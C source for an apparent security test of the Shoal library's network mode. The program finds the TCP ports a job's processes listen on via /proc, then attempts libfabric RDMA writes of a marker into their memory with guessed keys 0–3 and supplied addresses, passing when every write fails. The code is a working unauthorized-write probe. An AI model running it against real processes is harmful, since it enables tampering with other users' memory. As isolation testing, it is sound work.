/* Plays another local user against a running Shoal job in network mode: a plain
 * libfabric tcp;ofi_rxm client, not a PE, that finds the TCP ports the job's
 * processes listen on and tries fi_write of a marker into their memory with the keys
 * and addresses an outsider could guess (keys 0..3, the old fixed heap key 1, the
 * heap offset and the virtual address of the victim's buffer). Every address it can
 * reach is tried: loopback and each of the host's IPv4 addresses (one a plain TCP
 * connect cannot reach cannot take a write either).
 *
 * usage: attacker ADDRESS[,ADDRESS...] PID...
 * Exits 0 when every write failed, 1 when any completed, 2 when it could not try
 * (no listening socket found, libfabric unusable). */
#include <arpa/inet.h>
#include <dirent.h>
#include <ifaddrs.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#define MAX_PORTS 64
#define MARKER 31337L

static struct fid_fabric *fabric;
static struct fid_domain *domain;
static struct fid_av *av;
static struct fid_cq *cq;
static struct fid_ep *ep;

/* The socket inodes among pid's open files. */
static int socket_inodes(long pid, unsigned long *ino, int max)
{
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%ld/fd", pid);
    DIR *d = opendir(dir);
    int n = 0;
    if (!d)
        return 0;
    for (struct dirent *e; (e = readdir(d)) && n < max;) {
        char path[320], link[64];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        ssize_t len = readlink(path, link, sizeof link - 1);
        if (len <= 0)
            continue;
        link[len] = '\0';
        if (sscanf(link, "socket:[%lu]", &ino[n]) == 1)
            n++;
    }
    closedir(d);
    return n;
}

/* Ports of listening IPv4/IPv6 TCP sockets whose inode is in ino[]. */
static int listening_ports(const unsigned long *ino, int nino, unsigned *port, int max)
{
    static const char *tables[] = { "/proc/net/tcp", "/proc/net/tcp6" };
    int n = 0;
    for (int t = 0; t < 2; t++) {
        FILE *f = fopen(tables[t], "r");
        char line[512];
        if (!f)
            continue;
        while (fgets(line, sizeof line, f) && n < max) {
            char local[64];
            unsigned st;
            unsigned long inode;
            if (sscanf(line, " %*d: %63s %*s %x %*s %*s %*s %*d %*d %lu", local, &st,
                       &inode) != 3 ||
                st != 0x0A)
                continue;
            for (int i = 0; i < nino; i++)
                if (ino[i] == inode) {
                    char *colon = strrchr(local, ':');
                    if (colon)
                        port[n++] = (unsigned)strtoul(colon + 1, NULL, 16);
                }
        }
        fclose(f);
    }
    return n;
}

static struct fi_info *info;

static int open_client(void)
{
    struct fi_info *hints = fi_allocinfo();
    hints->caps = FI_RMA | FI_WRITE;
    hints->ep_attr->type = FI_EP_RDM;
    hints->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
    hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
    /* A completion means the target accepted the write, not just that it left. */
    hints->tx_attr->op_flags = FI_DELIVERY_COMPLETE;
    int rc = fi_getinfo(FI_VERSION(1, 10), NULL, NULL, 0, hints, &info);
    fi_freeinfo(hints);
    if (rc || !info) {
        fprintf(stderr, "attacker: fi_getinfo: %s\n", fi_strerror(-rc));
        return -1;
    }
    if (fi_fabric(info->fabric_attr, &fabric, NULL) ||
        fi_domain(fabric, info, &domain, NULL)) {
        fprintf(stderr, "attacker: cannot open a tcp;ofi_rxm domain\n");
        return -1;
    }
    return 0;
}

/* A fresh endpoint for each try: a target that rejects a write drops the
 * connection, and the next guess deserves a connection of its own. */
static int open_ep(const struct sockaddr_in *sa, fi_addr_t *dest)
{
    struct fi_av_attr av_attr = { .type = FI_AV_TABLE };
    struct fi_cq_attr cq_attr = { .format = FI_CQ_FORMAT_CONTEXT };
    if (fi_av_open(domain, &av_attr, &av, NULL) || fi_cq_open(domain, &cq_attr, &cq, NULL) ||
        fi_endpoint(domain, info, &ep, NULL) || fi_ep_bind(ep, &av->fid, 0) ||
        fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV) || fi_enable(ep)) {
        fprintf(stderr, "attacker: cannot open a tcp;ofi_rxm endpoint\n");
        return -1;
    }
    return fi_av_insert(av, sa, 1, dest, 0, NULL) == 1 ? 0 : -1;
}

static void close_ep(void)
{
    fi_close(&ep->fid);
    fi_close(&cq->fid);
    fi_close(&av->fid);
}

/* One fi_write of the marker; 1 when it completed without error. */
static int try_write(fi_addr_t dest, uint64_t addr, uint64_t key)
{
    static long marker = MARKER;
    struct fi_context2 ctx;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    ssize_t rc;
    while ((rc = fi_write(ep, &marker, sizeof marker, NULL, dest, addr, key, &ctx)) ==
           -FI_EAGAIN) {
        fi_cq_read(cq, NULL, 0);
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0.tv_sec > 3) /* never accepted: not written */
            return 0;
    }
    if (rc)
        return 0;
    for (;;) {
        struct fi_cq_entry e;
        rc = fi_cq_read(cq, &e, 1);
        if (rc == 1)
            return 1;
        if (rc == -FI_EAVAIL) {
            struct fi_cq_err_entry err = { 0 };
            fi_cq_readerr(cq, &err, 0);
            if (getenv("ATTACKER_VERBOSE"))
                fprintf(stderr, "attacker: write key %llu addr 0x%llx: %s\n",
                        (unsigned long long)key, (unsigned long long)addr,
                        fi_strerror(err.err));
            return 0;
        }
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0.tv_sec > 3) /* nobody answered: not written */
            return 0;
    }
}

static int tcp_reachable(const struct sockaddr_in *sa)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int ok = fd >= 0 && connect(fd, (const struct sockaddr *)sa, sizeof *sa) == 0;
    if (fd >= 0)
        close(fd);
    return ok;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: attacker ADDRESS[,ADDRESS...] PID...\n");
        return 2;
    }
    uint64_t addrs[16];
    int naddr = 0;
    for (char *p = argv[1]; *p && naddr < 16; p += *p == ',')
        addrs[naddr++] = strtoull(p, &p, 0);
    unsigned port[MAX_PORTS];
    int nport = 0;
    for (int i = 2; i < argc; i++) {
        unsigned long ino[256];
        int nino = socket_inodes(strtol(argv[i], NULL, 10), ino, 256);
        nport += listening_ports(ino, nino, port + nport, MAX_PORTS - nport);
    }
    if (nport == 0) {
        fprintf(stderr, "attacker: the job's processes listen on no TCP port\n");
        return 2;
    }
    if (open_client())
        return 2;

    /* Loopback and every IPv4 address of this host. */
    struct in_addr hosts[16];
    int nhost = 0;
    hosts[nhost++].s_addr = htonl(INADDR_LOOPBACK);
    struct ifaddrs *ifs, *ifa;
    if (getifaddrs(&ifs) == 0) {
        for (ifa = ifs; ifa && nhost < 16; ifa = ifa->ifa_next)
            if (ifa->ifa_addr && ifa->ifa_addr->sa_family == AF_INET &&
                ((struct sockaddr_in *)ifa->ifa_addr)->sin_addr.s_addr !=
                        htonl(INADDR_LOOPBACK))
                hosts[nhost++] = ((struct sockaddr_in *)ifa->ifa_addr)->sin_addr;
        freeifaddrs(ifs);
    }

    static const uint64_t keys[] = { 0, 1, 2, 3 };
    int attempts = 0, written = 0;
    for (int p = 0; p < nport; p++)
        for (int h = 0; h < nhost; h++) {
            struct sockaddr_in sa = { .sin_family = AF_INET,
                                      .sin_port = htons((uint16_t)port[p]),
                                      .sin_addr = hosts[h] };
            if (!tcp_reachable(&sa)) {
                printf("attacker: %s:%u is not reachable\n", inet_ntoa(hosts[h]), port[p]);
                continue;
            }
            for (size_t k = 0; k < sizeof keys / sizeof keys[0]; k++) {
                for (int a = 0; a < naddr; a++) {
                    fi_addr_t dest;
                    if (open_ep(&sa, &dest))
                        return 2;
                    attempts++;
                    if (try_write(dest, addrs[a], keys[k])) {
                        written++;
                        printf("attacker: wrote to %s:%u key %llu address 0x%llx\n",
                               inet_ntoa(hosts[h]), port[p], (unsigned long long)keys[k],
                               (unsigned long long)addrs[a]);
                    }
                    close_ep();
                }
            }
        }
    printf("attacker: %d of %d writes to %d listening ports completed\n", written, attempts,
           nport);
    fi_close(&domain->fid);
    fi_close(&fabric->fid);
    fi_freeinfo(info);
    return written ? 1 : 0;
}
